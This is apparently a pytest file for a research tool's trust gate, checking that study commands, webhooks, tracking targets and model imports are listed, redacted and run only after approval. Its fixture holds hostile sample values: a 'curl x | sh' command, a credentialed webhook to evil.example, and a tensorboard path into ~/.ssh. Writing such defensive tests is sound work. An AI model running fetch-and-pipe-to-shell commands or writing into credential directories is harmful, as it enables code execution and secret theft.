"""Whose errands are run: those of this user's own sweeps, and those that the user said yes to."""

from __future__ import annotations

import logging
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from synthetic import digits_experiment

from cnnsearch.errors import InputError
from cnnsearch.study.folder.errands import Errand, errands_of, model_errands
from cnnsearch.study.folder.trust import ensure_trusted, never, remember

KEYS: dict[str, Any] = {
    "notify": {"command": ["sh", "-c", "curl x | sh\n"], "webhook": "https://user:key@evil.example/secret"},
    "tracking": {"mlflow": "http://evil.example:5000/x", "tensorboard": "/home/me/.ssh"},
    "model": "my_models:mlp",
    "space": {"width": 3},
}


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The file of what is trusted, which is not there."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state" / "cnnsearch" / "trusted"


def yes(errands: Sequence[Errand]) -> bool:
    return bool(errands)


def errands(code: dict[str, str] | None = None, **keys: Any) -> list[Errand]:
    return errands_of(digits_experiment(**{**KEYS, **keys}), {"code": code or {}})


def test_errands_are_told_without_what_may_be_secret() -> None:
    assert [(each.where, each.does) for each in errands()] == [
        ("notify.command", "run at its end: sh -c $'curl x | sh\\012'"),
        ("notify.webhook", "post its result to https://evil.example"),
        ("tracking.mlflow", "write to MLflow at http://evil.example"),
        ("tracking.tensorboard", "write files into /home/me/.ssh"),
        ("model", "import and run my_models:mlp, as it lies in the working directory or on PYTHONPATH"),
    ]
    assert errands_of(digits_experiment(), {}) == [] == model_errands(digits_experiment(), {})
    assert [each.where for each in model_errands(digits_experiment(**KEYS), {})] == ["model"]


def test_nothing_is_run_before_somebody_says_yes_and_once_is_enough(state: Path) -> None:
    ensure_trusted([], never, "S")
    assert not state.exists(), "a study without errands needs no trust"
    with pytest.raises(InputError) as raised:
        ensure_trusted(errands(), never, "S")
    assert "S: notify.command: would run at its end: sh -c $'curl x | sh\\012'" in str(raised.value)
    assert "this study was not made by you on this machine, so nothing was run; if you trust it: --trust" in str(
        raised.value
    )
    assert "key" not in str(raised.value)
    ensure_trusted(errands(), yes, "S")
    ensure_trusted(errands(), never, "S")
    assert state.stat().st_mode & 0o777 == 0o600
    assert state.parent.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize(
    ("changed", "where"),
    [
        ({"notify": {**KEYS["notify"], "command": ["sh", "-c", "curl y | sh\n"]}}, "notify.command"),
        ({"notify": {**KEYS["notify"], "webhook": "https://user:key@evil.example/other"}}, "notify.webhook"),
        ({"tracking": {**KEYS["tracking"], "mlflow": "sqlite:///x.db"}}, "tracking.mlflow"),
        ({"tracking": {**KEYS["tracking"], "tensorboard": "/etc"}}, "tracking.tensorboard"),
        ({"model": "my_models:other"}, "model"),
        ({"code": {"my_models.py": "0" * 64}}, "model"),
    ],
)
@pytest.mark.usefixtures("state")
def test_what_was_changed_is_asked_for_again(changed: dict[str, Any], where: str) -> None:
    remember(errands())
    asked: list[Errand] = []
    with pytest.raises(InputError):
        ensure_trusted(errands(**changed), lambda each: bool(asked.extend(each)), "S")
    assert [errand.where for errand in asked] == [where]


def test_a_file_that_others_can_write_trusts_nothing(state: Path, caplog: pytest.LogCaptureFixture) -> None:
    remember(errands())
    state.chmod(0o666)
    with pytest.raises(InputError):
        ensure_trusted(errands(), never, "S")
    assert "is not a file that this user alone can write" in caplog.text


def test_where_nothing_can_be_remembered_it_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    with caplog.at_level(logging.WARNING):
        ensure_trusted(errands(), yes, "S")
    assert "cannot remember that this study is trusted" in caplog.text
